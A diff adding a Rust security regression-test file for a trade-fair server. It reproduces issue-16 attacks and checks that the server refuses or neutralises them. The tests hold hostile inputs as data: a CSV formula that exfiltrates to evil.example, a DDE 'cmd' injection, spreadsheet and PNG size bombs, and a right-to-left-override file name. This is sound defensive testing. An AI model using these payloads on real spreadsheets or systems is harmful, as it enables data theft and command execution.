@@ -1,0 +1,1037 @@
+//! The attacks of issue 16, each reproduced against a real node: hostile spreadsheets, formula
+//! injection in exports, consent bypasses and lookups by id, sign-in floods, attachment floods
+//! and the smaller findings. After every attack the node must still serve a normal client and
+//! the records must be intact.
+
+use crate::booths::company_with_staff;
+use crate::both_engines;
+use crate::helpers::*;
+use expo_client::{Api, Hub, Incoming};
+use expo_schema::api::*;
+use expo_schema::protocol::{Command, ReplyData, RoomEvent, ServerFrame};
+use expo_schema::{ChatRoomInfo, ErrorCode};
+use serde_json::json;
+use std::time::Duration;
+
+/// A raw HTTP client for what `Api` hides (status codes, headers).
+fn http() -> reqwest::Client {
+    reqwest::Client::new()
+}
+
+/// The node still answers a normal client: the organizer signs in and lists halls.
+async fn still_serves(app: &TestApp) {
+    let admin = app.admin().await;
+    let _: HallList = admin
+        .get("/api/v1/halls")
+        .await
+        .expect("the node still serves");
+}
+
+/// An XLSX workbook with the given cells (0-based row, column, text).
+fn xlsx(cells: &[(u32, u16, &str)]) -> Vec<u8> {
+    let mut book = rust_xlsxwriter::Workbook::new();
+    let sheet = book.add_worksheet();
+    for (row, col, text) in cells {
+        sheet.write_string(*row, *col, *text).unwrap();
+    }
+    book.save_to_buffer().unwrap()
+}
+
+/// A dry-run import of halls: the status and the report.
+async fn dry_run(app: &TestApp, admin: &expo_client::Api, body: Vec<u8>) -> (u16, ImportReport) {
+    let response = http()
+        .post(format!("{}/api/v1/import/halls?dry_run=true", app.base))
+        .bearer_auth(admin.token().unwrap())
+        .body(body)
+        .send()
+        .await
+        .unwrap();
+    let status = response.status().as_u16();
+    (status, response.json().await.unwrap())
+}
+
+async fn spreadsheet_bombs_are_refused(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env.start().await;
+    let admin = app.admin().await;
+    // Finding 1: the cells A1 and XFD1048576 once made the reader allocate 512 GiB.
+    let bomb = xlsx(&[(0, 0, "slug"), (1_048_575, 16_383, "x")]);
+    assert!(bomb.len() < 10_000, "the attack file is small");
+    let (status, report) = dry_run(&app, &admin, bomb).await;
+    assert_eq!(status, 422);
+    assert!(
+        report.errors[0].message.contains("at most"),
+        "the limit is named: {report:?}"
+    );
+    // A sheet that is wide rather than tall, and a CSV with too many columns or a huge line.
+    let wide = xlsx(&[(0, 0, "slug"), (1, 5_000, "x")]);
+    assert_eq!(dry_run(&app, &admin, wide).await.0, 422);
+    let many_columns = format!("slug{}\n", ",x".repeat(1000));
+    let (status, report) = dry_run(&app, &admin, many_columns.into_bytes()).await;
+    assert_eq!(status, 422);
+    assert!(report.errors[0].message.contains("columns"), "{report:?}");
+    let long_line = format!("slug,name\nfood,{}\n", "a".repeat(100 * 1024));
+    let (status, report) = dry_run(&app, &admin, long_line.into_bytes()).await;
+    assert_eq!(status, 422);
+    assert!(report.errors[0].message.contains("KiB"), "{report:?}");
+    // A normal import still works afterwards.
+    let good = xlsx(&[
+        (0, 0, "slug"),
+        (0, 1, "name"),
+        (0, 2, "industry"),
+        (1, 0, "food"),
+        (1, 1, "Hall A"),
+        (1, 2, "food"),
+    ]);
+    let report: ImportReport = admin
+        .post_bytes("/api/v1/import/halls", good)
+        .await
+        .unwrap();
+    assert_eq!(report.created, 1, "{report:?}");
+    still_serves(&app).await;
+    app.stop().await;
+}
+
+/// Reads a CSV export into rows of cells.
+fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
+    let text = String::from_utf8(bytes.to_vec()).unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+
+async fn csv_exports_carry_no_formulas(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env.start().await;
+    let admin = app.admin().await;
+    let (company, staff) = company_with_staff(&app, &admin, "101-81-16002", "s@csv.example").await;
+    // Finding 2a: a buyer whose name is a formula visits the booth.
+    let _: RegistrationReceived = app
+        .api
+        .post(
+            "/api/v1/auth/register",
+            &json!({"email": "evil@csv.example", "password": "evil-password", "name": FORMULA,
+                "company_name": "@SUM(1+1)", "country": "RU", "timezone": "Asia/Vladivostok",
+                "share_contact": true}),
+        )
+        .await
+        .unwrap();
+    app.approve("evil@csv.example").await;
+    let (evil, _) = app
+        .api
+        .login("evil@csv.example", "evil-password")
+        .await
+        .unwrap();
+    let hub = evil.connect().await.unwrap();
+    hub.subscribe(&format!("booth:{}", company.id))
+        .await
+        .unwrap();
+    hub.close();
+    eventually(Duration::from_secs(5), "the visit is recorded", || async {
+        let r: LeadReport = staff
+            .get(&format!("/api/v1/companies/{}/leads", company.id))
+            .await
+            .unwrap();
+        r.leads.len() == 1
+    })
+    .await;
+    let rows = csv_rows(
+        &staff
+            .get_bytes(&format!("/api/v1/companies/{}/leads.csv", company.id))
+            .await
+            .unwrap(),
+    );
+    let lead = &rows[1];
+    assert_eq!(lead[0], format!("'{FORMULA}"), "the name is text: {lead:?}");
+    assert_eq!(lead[2], "'@SUM(1+1)");
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '@']),
+                "a formula in the leads CSV: {cell}"
+            );
+        }
+    }
+    // Finding 2b: plain staff rename their company to a formula; the organizers' export.
+    let mut input: serde_json::Value = json!({"reg_no": "101-81-16002", "name": "+cmd|' /C calc'!A0",
+        "hall_id": company.hall_id, "country": "KR"});
+    input["tags"] = json!([]);
+    let _: expo_schema::Company = staff
+        .put(&format!("/api/v1/companies/{}", company.id), &input)
+        .await
+        .unwrap();
+    let rows = csv_rows(&admin.get_bytes("/api/v1/reports/booths.csv").await.unwrap());
+    let names: Vec<&String> = rows
+        .iter()
+        .flatten()
+        .filter(|c| c.contains("cmd|"))
+        .collect();
+    assert!(!names.is_empty(), "the renamed booth is in the report");
+    for name in names {
+        assert!(name.starts_with('\''), "the booth name is text: {name}");
+    }
+    still_serves(&app).await;
+    app.stop().await;
+}
+
+async fn sign_in_is_throttled(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env.start_with(|c| c.login_window_secs = 3).await;
+    let _victim = app.buyer("victim@throttle.example").await;
+    // Finding 4: 25 wrong passwords in a row, then the right one.
+    let mut codes = Vec::new();
+    for _ in 0..25 {
+        let error = app
+            .api
+            .login("victim@throttle.example", "wrong-password")
+            .await
+            .unwrap_err();
+        codes.push(error.code());
+    }
+    let wrong = codes
+        .iter()
+        .filter(|c| **c == Some(ErrorCode::InvalidCredentials))
+        .count();
+    assert_eq!(wrong, 5, "five failures are heard: {codes:?}");
+    assert!(codes[5..]
+        .iter()
+        .all(|c| *c == Some(ErrorCode::RateLimited)));
+    let locked = app
+        .api
+        .login("victim@throttle.example", "buyer-password")
+        .await
+        .unwrap_err();
+    assert_eq!(locked.code(), Some(ErrorCode::RateLimited));
+    // Unknown emails are throttled alike (they too cost a hash when heard).
+    for _ in 0..5 {
+        let _ = app.api.login("nobody@throttle.example", "x-password").await;
+    }
+    let unknown = app
+        .api
+        .login("nobody@throttle.example", "x-password")
+        .await
+        .unwrap_err();
+    assert_eq!(unknown.code(), Some(ErrorCode::RateLimited));
+    // Other accounts are not locked, and once the window passes the right password works.
+    still_serves(&app).await;
+    tokio::time::sleep(Duration::from_millis(3_100)).await;
+    app.api
+        .login("victim@throttle.example", "buyer-password")
+        .await
+        .expect("the lock ends with the window");
+    app.stop().await;
+}
+
+async fn sign_in_is_throttled_per_address(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env
+        .start_with(|c| {
+            c.login_max_failures_per_address = 8;
+        })
+        .await;
+    // Many accounts, each under its own limit, from one address.
+    let mut codes = Vec::new();
+    for i in 0..10 {
+        let error = app
+            .api
+            .login(&format!("spray{i}@throttle.example"), "spray-password")
+            .await
+            .unwrap_err();
+        codes.push(error.code());
+    }
+    assert!(codes[..8]
+        .iter()
+        .all(|c| *c == Some(ErrorCode::InvalidCredentials)));
+    assert!(codes[8..]
+        .iter()
+        .all(|c| *c == Some(ErrorCode::RateLimited)));
+    // The failures are stored, so a second node sharing the database refuses too.
+    let other = env
+        .start_with(|c| c.login_max_failures_per_address = 8)
+        .await;
+    let error = other
+        .api
+        .login("another@throttle.example", "spray-password")
+        .await
+        .unwrap_err();
+    assert_eq!(error.code(), Some(ErrorCode::RateLimited));
+    other.stop().await;
+    app.stop().await;
+}
+
+async fn weak_passwords_and_account_probes(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env.start().await;
+    let register = |email: &str, password: &str| {
+        json!({"email": email, "password": password, "name": "Probe", "company_name": "Probe Co",
+            "country": "RU", "timezone": "Asia/Vladivostok"})
+    };
+    for weak in ["12345678", "password1", "aaaaaaaaaa", "qwertyuiop"] {
+        let error = app
+            .api
+            .post::<RegistrationReceived>(
+                "/api/v1/auth/register",
+                &register("weak@probe.example", weak),
+            )
+            .await
+            .unwrap_err();
+        assert_eq!(error.code(), Some(ErrorCode::Validation), "{weak}");
+    }
+    // Registration answers the same for a new email and for one with an account.
+    let first: RegistrationReceived = app
+        .api
+        .post(
+            "/api/v1/auth/register",
+            &register("taken@probe.example", "strong-pass-1"),
+        )
+        .await
+        .unwrap();
+    let response = http()
+        .post(format!("{}/api/v1/auth/register", app.base))
+        .json(&register("taken@probe.example", "strong-pass-2"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 202);
+    let again: RegistrationReceived = response.json().await.unwrap();
+    assert_eq!(again, first);
+    let organizer = http()
+        .post(format!("{}/api/v1/auth/register", app.base))
+        .json(&register(ADMIN_EMAIL, "strong-pass-3"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(organizer.status(), 202, "no hint that the organizer exists");
+    // The first registration's password stands.
+    app.approve("taken@probe.example").await;
+    app.api
+        .login("taken@probe.example", "strong-pass-1")
+        .await
+        .unwrap();
+    app.stop().await;
+}
+
+/// Registers and approves a buyer with the given consent; signs them in.
+async fn buyer_with_consent(app: &TestApp, email: &str, name: &str, share: bool) -> Api {
+    let _: RegistrationReceived = app
+        .api
+        .post(
+            "/api/v1/auth/register",
+            &json!({"email": email, "password": "buyer-password", "name": name,
+                "company_name": "Quiet Trading", "country": "MN", "timezone": "Asia/Ulaanbaatar",
+                "share_contact": share}),
+        )
+        .await
+        .unwrap();
+    app.approve(email).await;
+    app.api.login(email, "buyer-password").await.unwrap().0
+}
+
+async fn open_chat(hub: &Hub, target: &str) -> Result<ChatRoomInfo, expo_client::ClientError> {
+    match hub
+        .request(Command::ChatOpen {
+            target: target.into(),
+        })
+        .await?
+    {
+        ReplyData::ChatRoom { room } => Ok(room),
+        other => panic!("unexpected {other:?}"),
+    }
+}
+
+async fn presence_names_only_consenting_buyers(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env.start().await;
+    let admin = app.admin().await;
+    let (company, staff) =
+        company_with_staff(&app, &admin, "101-81-16003", "s@consent.example").await;
+    let room = format!("booth:{}", company.id);
+    let mut watcher = staff.connect().await.unwrap();
+    watcher.subscribe(&room).await.unwrap();
+    let quiet = buyer_with_consent(&app, "quiet@consent.example", "Quiet Person", false).await;
+    let open = buyer_with_consent(&app, "open@consent.example", "Open Person", true).await;
+    let quiet_hub = quiet.connect().await.unwrap();
+    quiet_hub.subscribe(&room).await.unwrap();
+    let open_hub = open.connect().await.unwrap();
+    open_hub.subscribe(&room).await.unwrap();
+    // Finding 3a: `presence` on the booth named the buyer who did not consent.
+    let members = watcher.presence(&room).await.unwrap();
+    let names: Vec<&str> = members.iter().map(|m| m.user.name.as_str()).collect();
+    assert!(names.contains(&"Open Person"), "{names:?}");
+    assert!(!names.contains(&"Quiet Person"), "{names:?}");
+    assert!(members
+        .iter()
+        .all(|m| m.user.company_name.as_deref() != Some("Quiet Trading")
+            || m.user.name == "Open Person"));
+    // Nor does the live join event name them.
+    let mut joins = Vec::new();
+    while let Some(item) = watcher.next(Duration::from_millis(500)).await {
+        if let Incoming::Frame(ServerFrame::Event {
+            event: RoomEvent::Join { member },
+            ..
+        }) = item
+        {
+            joins.push(member.user.name);
+        }
+    }
+    assert!(joins.contains(&"Open Person".to_string()), "{joins:?}");
+    assert!(!joins.contains(&"Quiet Person".to_string()), "{joins:?}");
+    still_serves(&app).await;
+    app.stop().await;
+}
+
+async fn no_account_lookups_by_id(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env.start().await;
+    let admin = app.admin().await;
+    let (company, staff) =
+        company_with_staff(&app, &admin, "101-81-16004", "s@lookup.example").await;
+    let (other_company, other_staff) =
+        company_with_staff(&app, &admin, "101-81-16005", "o@lookup.example").await;
+    let buyer = buyer_with_consent(&app, "b@lookup.example", "Seen Buyer", true).await;
+    let stranger = buyer_with_consent(&app, "x@lookup.example", "Stranger", true).await;
+    let _: RegistrationReceived = app
+        .api
+        .post(
+            "/api/v1/auth/register",
+            &json!({"email": "pending@lookup.example", "password": "pending-pass", "name": "Pending Person",
+                "company_name": "Waiting LLC", "country": "RU", "timezone": "Asia/Vladivostok"}),
+        )
+        .await
+        .unwrap();
+    let pending_id = app.user_id("pending@lookup.example").await;
+    let stranger_id = app.user_id("x@lookup.example").await;
+    let buyer_id = app.user_id("b@lookup.example").await;
+    // Finding 3b: block, then read the block list, to get any account's summary.
+    for id in [pending_id, stranger_id] {
+        let error = buyer
+            .post_empty_json("/api/v1/chat/blocks", &json!({"user_id": id}))
+            .await
+            .unwrap_err();
+        assert_eq!(error.code(), Some(ErrorCode::NotFound));
+    }
+    let list: serde_json::Value = buyer.get("/api/v1/chat/blocks").await.unwrap();
+    assert_eq!(list["users"], json!([]));
+    // Someone who wrote in a booth room can be blocked (and is listed).
+    let booth_room = {
+        let hub = stranger.connect().await.unwrap();
+        let room = open_chat(&hub, &format!("booth:{}", company.id))
+            .await
+            .unwrap();
+        hub.request(Command::ChatJoin {
+            room_id: room.id,
+            after_seq: 0,
+        })
+        .await
+        .unwrap();
+        hub.request(Command::ChatSend {
+            room_id: room.id,
+            body: "hello booth".into(),
+            key: "k1".into(),
+            attachment_id: None,
+        })
+        .await
+        .unwrap();
+        room
+    };
+    assert!(booth_room.id > 0);
+    buyer
+        .post_empty_json("/api/v1/chat/blocks", &json!({"user_id": stranger_id}))
+        .await
+        .unwrap();
+    let list: serde_json::Value = buyer.get("/api/v1/chat/blocks").await.unwrap();
+    assert_eq!(list["users"][0]["name"], "Stranger");
+    // Finding 3c: staff open private:{own}:{any buyer} to read summaries and make rows.
+    let staff_hub = other_staff.connect().await.unwrap();
+    for id in [buyer_id, pending_id] {
+        let error = open_chat(&staff_hub, &format!("private:{}:{id}", other_company.id))
+            .await
+            .unwrap_err();
+        assert_eq!(error.code(), Some(ErrorCode::UnknownRoom), "{id}");
+    }
+    // A buyer who visited a booth, consenting to share contact, may be written to.
+    let visit = buyer.connect().await.unwrap();
+    visit
+        .subscribe(&format!("booth:{}", company.id))
+        .await
+        .unwrap();
+    let own_hub = staff.connect().await.unwrap();
+    eventually(
+        Duration::from_secs(5),
+        "the visit opens a conversation",
+        || {
+            let own_hub = &own_hub;
+            let target = format!("private:{}:{buyer_id}", company.id);
+            async move { open_chat(own_hub, &target).await.is_ok() }
+        },
+    )
+    .await;
+    still_serves(&app).await;
+    app.stop().await;
+}
+
+/// Uploads a file to a chat room: the status and the JSON answer.
+async fn attach(
+    app: &TestApp,
+    who: &Api,
+    room: i64,
+    name: &str,
+    body: Vec<u8>,
+) -> (u16, serde_json::Value) {
+    let response = http()
+        .post(format!(
+            "{}/api/v1/chat/rooms/{room}/attachments?file_name={name}",
+            app.base
+        ))
+        .bearer_auth(who.token().unwrap())
+        .body(body)
+        .send()
+        .await
+        .unwrap();
+    let status = response.status().as_u16();
+    (status, response.json().await.unwrap_or_default())
+}
+
+async fn attachments_cannot_fill_the_disk(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env
+        .start_with(|c| {
+            c.chat_attachment_bytes = 4_000;
+            c.uploads_per_day = 3;
+            c.upload_quota_bytes = 1_000_000;
+            c.unsent_attachment_secs = 0;
+        })
+        .await;
+    let admin = app.admin().await;
+    let (company, _staff) =
+        company_with_staff(&app, &admin, "101-81-16006", "s@disk.example").await;
+    let buyer = app.buyer("filler@disk.example").await;
+    let hub = buyer.connect().await.unwrap();
+    let room = open_chat(&hub, &format!("booth:{}", company.id))
+        .await
+        .unwrap();
+    hub.request(Command::ChatJoin {
+        room_id: room.id,
+        after_seq: 0,
+    })
+    .await
+    .unwrap();
+    let pdf = crate::booths::pdf_bytes(200);
+    // Finding 5: one file beyond the attachment limit (not the 100 MiB upload limit).
+    let (status, body) = attach(
+        &app,
+        &buyer,
+        room.id,
+        "big.pdf",
+        crate::booths::pdf_bytes(8_000),
+    )
+    .await;
+    assert_eq!(status, 413, "{body}");
+    // A right-to-left override in the name (U+202E: `invoice_fdp.exe` shown as `invoice_exe.pdf`).
+    let (status, _) = attach(
+        &app,
+        &buyer,
+        room.id,
+        "invoice%E2%80%AEfdp.exe",
+        pdf.clone(),
+    )
+    .await;
+    assert_eq!(status, 422);
+    // Three a day; the fourth is refused.
+    let (status, sent) = attach(&app, &buyer, room.id, "a.pdf", pdf.clone()).await;
+    assert_eq!(status, 201);
+    let (status, unsent) = attach(&app, &buyer, room.id, "b.pdf", pdf.clone()).await;
+    assert_eq!(status, 201);
+    let (status, _) = attach(&app, &buyer, room.id, "c.pdf", pdf.clone()).await;
+    assert_eq!(status, 201);
+    let (status, body) = attach(&app, &buyer, room.id, "d.pdf", pdf.clone()).await;
+    assert_eq!(status, 429, "{body}");
+    assert_eq!(body["code"], "rate_limited");
+    // One of them is sent; the unsent ones are swept, files included.
+    hub.request(Command::ChatSend {
+        room_id: room.id,
+        body: "the spec".into(),
+        key: "spec".into(),
+        attachment_id: sent["id"].as_i64(),
+    })
+    .await
+    .unwrap();
+    let files = || {
+        std::fs::read_dir(env.data_dir.join("uploads"))
+            .unwrap()
+            .count()
+    };
+    assert_eq!(files(), 3);
+    let removed = expo_server::chat::routes::sweep_unsent_attachments(&app.state)
+        .await
+        .unwrap();
+    assert_eq!(removed, 2);
+    assert_eq!(files(), 1);
+    buyer
+        .get_bytes(&format!("/api/v1/chat/attachments/{}", sent["id"]))
+        .await
+        .expect("the sent attachment stays");
+    let gone = buyer
+        .get_bytes(&format!("/api/v1/chat/attachments/{}", unsent["id"]))
+        .await
+        .unwrap_err();
+    assert_eq!(gone.code(), Some(ErrorCode::NotFound));
+    still_serves(&app).await;
+    app.stop().await;
+}
+
+async fn image_bombs_are_refused(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env.start().await;
+    let admin = app.admin().await;
+    let (company, staff) = company_with_staff(&app, &admin, "101-81-16007", "s@img.example").await;
+    let png = |w: u32, h: u32| {
+        let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
+        png.extend_from_slice(&w.to_be_bytes());
+        png.extend_from_slice(&h.to_be_bytes());
+        png.extend_from_slice(&[8, 6, 0, 0, 0]);
+        png
+    };
+    let upload = |bytes: Vec<u8>| {
+        let staff = staff.clone();
+        let path = format!(
+            "/api/v1/companies/{}/media?kind=logo&file_name=logo.png",
+            company.id
+        );
+        async move {
+            staff
+                .post_bytes::<expo_schema::MediaItem>(&path, bytes)
+                .await
+        }
+    };
+    let error = upload(png(60_000, 60_000)).await.unwrap_err();
+    let expo_client::ClientError::Server(body) = error else {
+        panic!("a typed refusal, not {error:?}");
+    };
+    assert_eq!(body.code, ErrorCode::Validation);
+    assert!(body.message.contains("pixels"), "{}", body.message);
+    upload(png(640, 480)).await.expect("a normal photo");
+    still_serves(&app).await;
+    app.stop().await;
+}
+
+/// Signs in as a demo account.
+async fn demo_login(app: &TestApp, email: &str) -> (Api, LoginResponse) {
+    app.api.login(email, DEMO_PASSWORD).await.unwrap()
+}
+
+async fn meeting_outcomes_stay_with_the_company(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env.start_with(|c| c.demo = true).await;
+    let (staff, _) = demo_login(&app, "exhibitor@demo.expo").await;
+    let list: expo_server::meetings::routes::MeetingList =
+        staff.get("/api/v1/meetings").await.unwrap();
+    let held = list
+        .meetings
+        .iter()
+        .find(|m| m.outcome.is_some())
+        .expect("the demo has meetings with outcomes")
+        .clone();
+    let users: UserList = app.admin().await.get("/api/v1/users").await.unwrap();
+    let email_of = |id: i64| {
+        users
+            .users
+            .iter()
+            .find(|u| u.id == id)
+            .unwrap()
+            .email
+            .clone()
+    };
+    let (buyer, buyer_me) = demo_login(&app, &email_of(held.buyer.id)).await;
+    // Finding 6: the buyer (and an interpreter) were sent the rating, notes and amounts.
+    let seen: expo_schema::Meeting = buyer
+        .get(&format!("/api/v1/meetings/{}", held.id))
+        .await
+        .unwrap();
+    assert!(seen.outcome.is_none(), "the buyer sees no outcome");
+    let mine: expo_server::meetings::routes::MeetingList =
+        buyer.get("/api/v1/meetings").await.unwrap();
+    assert!(mine.meetings.iter().all(|m| m.outcome.is_none()));
+    if let Some(interpreter) = &held.interpreter {
+        let (i, _) = demo_login(&app, &email_of(interpreter.id)).await;
+        let seen: expo_schema::Meeting = i
+            .get(&format!("/api/v1/meetings/{}", held.id))
+            .await
+            .unwrap();
+        assert!(seen.outcome.is_none(), "the interpreter sees no outcome");
+    }
+    // Live: the company updates the outcome; the buyer's notice carries none.
+    let mut buyer_hub = buyer.connect().await.unwrap();
+    buyer_hub
+        .subscribe(&format!("user:{}", buyer_me.user.id))
+        .await
+        .unwrap();
+    let outcome = json!({"consult_usd": 1000, "contract_usd": 990000, "mou_signed": true,
+        "samples_requested": false, "notes": "secret margin notes", "rating": 2});
+    let updated: expo_schema::Meeting = staff
+        .put(&format!("/api/v1/meetings/{}/outcome", held.id), &outcome)
+        .await
+        .unwrap();
+    assert_eq!(
+        updated.outcome.unwrap().contract_usd,
+        990000,
+        "staff see it"
+    );
+    let told = buyer_hub
+        .wait_for(Duration::from_secs(5), |i| {
+            matches!(i, Incoming::Frame(ServerFrame::Event { event: RoomEvent::MeetingUpdated { meeting }, .. }) if meeting.id == held.id)
+        })
+        .await
+        .expect("the buyer hears of the change");
+    let Incoming::Frame(ServerFrame::Event {
+        event: RoomEvent::MeetingUpdated { meeting },
+        ..
+    }) = told
+    else {
+        unreachable!()
+    };
+    assert!(
+        meeting.outcome.is_none(),
+        "no outcome in the buyer's notice"
+    );
+    app.stop().await;
+}
+
+async fn smaller_findings(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env.start().await;
+    let admin = app.admin().await;
+    let (company, staff) =
+        company_with_staff(&app, &admin, "101-81-16008", "s@small.example").await;
+    let buyer = app.buyer("small@small.example").await;
+    let hub = buyer.connect().await.unwrap();
+    // `booth:01` and `booth:1` were two rooms for one booth (parallel visits).
+    let padded = format!("booth:0{}", company.id);
+    let error = hub.subscribe(&padded).await.unwrap_err();
+    assert_eq!(error.code(), Some(ErrorCode::UnknownRoom));
+    let plus = format!("booth:+{}", company.id);
+    assert_eq!(
+        hub.subscribe(&plus).await.unwrap_err().code(),
+        Some(ErrorCode::UnknownRoom)
+    );
+    hub.subscribe(&format!("booth:{}", company.id))
+        .await
+        .unwrap();
+    // `unsubscribe "~online"` took a connected buyer out of the organizers' figures.
+    let online = || async {
+        let now: expo_schema::DashboardSnapshot = admin.get("/api/v1/dashboard").await.unwrap();
+        now.online_by_role.get("buyer").copied().unwrap_or(0)
+    };
+    eventually(
+        Duration::from_secs(5),
+        "the buyer counts online",
+        || async { online().await == 1 },
+    )
+    .await;
+    let error = hub.unsubscribe("~online").await.unwrap_err();
+    assert_eq!(error.code(), Some(ErrorCode::NotSubscribed));
+    assert_eq!(online().await, 1, "still online");
+    // With nobody on duty, every `talk_request` added a missed row.
+    for _ in 0..10 {
+        hub.request(Command::TalkRequest {
+            company_id: company.id,
+        })
+        .await
+        .unwrap();
+    }
+    let missed: serde_json::Value = staff
+        .get(&format!(
+            "/api/v1/companies/{}/talk-requests?state=missed",
+            company.id
+        ))
+        .await
+        .unwrap();
+    assert_eq!(missed["requests"].as_array().unwrap().len(), 1, "{missed}");
+    still_serves(&app).await;
+    app.stop().await;
+}
+
+async fn nul_characters_and_big_bodies(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env.start().await;
+    let admin = app.admin().await;
+    let (company, _staff) = company_with_staff(&app, &admin, "101-81-16009", "s@nul.example").await;
+    // On Postgres a NUL in any text gave a 500, an anonymous login's email too.
+    let response = http()
+        .post(format!("{}/api/v1/auth/login", app.base))
+        .json(&json!({"email": "a\u{0}b@nul.example", "password": "whatever-pass"}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 422);
+    let response = http()
+        .post(format!("{}/api/v1/auth/register", app.base))
+        .json(
+            &json!({"email": "n@nul.example", "password": "strong-pass-1", "name": "N\u{0}",
+            "company_name": "Nul Co", "country": "RU", "timezone": "Asia/Vladivostok"}),
+        )
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 422);
+    let response = http()
+        .get(format!("{}/api/v1/booths?q=a%00b", app.base))
+        .bearer_auth(admin.token().unwrap())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 400);
+    let buyer = app.buyer("nul@nul.example").await;
+    let hub = buyer.connect().await.unwrap();
+    let room = open_chat(&hub, &format!("booth:{}", company.id))
+        .await
+        .unwrap();
+    hub.request(Command::ChatJoin {
+        room_id: room.id,
+        after_seq: 0,
+    })
+    .await
+    .unwrap();
+    let error = hub
+        .request(Command::ChatSend {
+            room_id: room.id,
+            body: "a\u{0}b".into(),
+            key: "nul".into(),
+            attachment_id: None,
+        })
+        .await
+        .unwrap_err();
+    assert_eq!(error.code(), Some(ErrorCode::Validation));
+    // A 2 MiB+ JSON body answered 400 instead of 413.
+    let big = json!({"email": "x@nul.example", "password": "p".repeat(3 * 1024 * 1024)});
+    let response = http()
+        .post(format!("{}/api/v1/auth/login", app.base))
+        .json(&big)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 413);
+    // The node and its records are fine: the chat room still takes a normal message.
+    hub.request(Command::ChatSend {
+        room_id: room.id,
+        body: "normal".into(),
+        key: "ok".into(),
+        attachment_id: None,
+    })
+    .await
+    .unwrap();
+    still_serves(&app).await;
+    app.stop().await;
+}
+
+async fn connections_are_limited(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env
+        .start_with(|c| {
+            c.max_conns_per_user = 2;
+            c.max_conns_per_address = 4;
+        })
+        .await;
+    let one = app.buyer("one@conns.example").await;
+    let two = app.buyer("two@conns.example").await;
+    let a = one.connect().await.unwrap();
+    let _b = one.connect().await.unwrap();
+    let Err(error) = one.connect().await else {
+        panic!("a third connection of one user is refused");
+    };
+    assert_eq!(error.code(), Some(ErrorCode::RateLimited), "per user");
+    let _c = two.connect().await.unwrap();
+    let _d = two.connect().await.unwrap();
+    let admin = app.admin().await;
+    let Err(error) = admin.connect().await else {
+        panic!("a fifth connection from one address is refused");
+    };
+    assert_eq!(error.code(), Some(ErrorCode::RateLimited), "per address");
+    // A closed connection gives its place back.
+    a.close();
+    eventually(Duration::from_secs(5), "a place is free again", || async {
+        one.connect().await.is_ok()
+    })
+    .await;
+    app.stop().await;
+}
+
+async fn pages_are_capped(engines: Engines) {
+    let env = TestEnv::new(engines).await;
+    let app = env
+        .start_with(|c| {
+            c.chat_rate_per_sec = 1000;
+            c.rate_per_sec = 1000;
+            c.rate_burst = 1000;
+        })
+        .await;
+    let admin = app.admin().await;
+    let (company, _staff) =
+        company_with_staff(&app, &admin, "101-81-16010", "s@page.example").await;
+    let page: serde_json::Value = admin.get("/api/v1/booths?per_page=100000").await.unwrap();
+    assert_eq!(
+        page["per_page"], 100,
+        "search pages hold at most 100 booths"
+    );
+    let buyer = app.buyer("pager@page.example").await;
+    let hub = buyer.connect().await.unwrap();
+    let room = open_chat(&hub, &format!("booth:{}", company.id))
+        .await
+        .unwrap();
+    hub.request(Command::ChatJoin {
+        room_id: room.id,
+        after_seq: 0,
+    })
+    .await
+    .unwrap();
+    for i in 0..210 {
+        hub.request(Command::ChatSend {
+            room_id: room.id,
+            body: format!("message {i}"),
+            key: format!("m{i}"),
+            attachment_id: None,
+        })
+        .await
+        .unwrap();
+    }
+    let ReplyData::ChatHistory { messages, .. } = hub
+        .request(Command::ChatHistory {
+            room_id: room.id,
+            before_seq: None,
+            limit: Some(100_000),
+        })
+        .await
+        .unwrap()
+    else {
+        panic!("a chat_history reply")
+    };
+    assert_eq!(
+        messages.len(),
+        200,
+        "history pages hold at most 200 messages"
+    );
+    app.stop().await;
+}
+
+both_engines!(
+    pages_are_capped,
+    smaller_findings,
+    nul_characters_and_big_bodies,
+    connections_are_limited,
+    attachments_cannot_fill_the_disk,
+    image_bombs_are_refused,
+    meeting_outcomes_stay_with_the_company,
+    presence_names_only_consenting_buyers,
+    no_account_lookups_by_id,
+    spreadsheet_bombs_are_refused,
+    csv_exports_carry_no_formulas,
+    sign_in_is_throttled,
+    sign_in_is_throttled_per_address,
+    weak_passwords_and_account_probes,
+);
+
+/// The security headers on a page, a JSON answer and a static file.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn security_headers_everywhere() {
+    let env = TestEnv::new(Engines::Embedded).await;
+    let app = env.start().await;
+    for path in ["/", "/api/v1/fair", "/app.js", "/api/v1/nothing-here"] {
+        let response = http()
+            .get(format!("{}{path}", app.base))
+            .send()
+            .await
+            .unwrap();
+        let headers = response.headers();
+        let csp = headers
+            .get("content-security-policy")
+            .unwrap_or_else(|| panic!("a CSP on {path}"))
+            .to_str()
+            .unwrap();
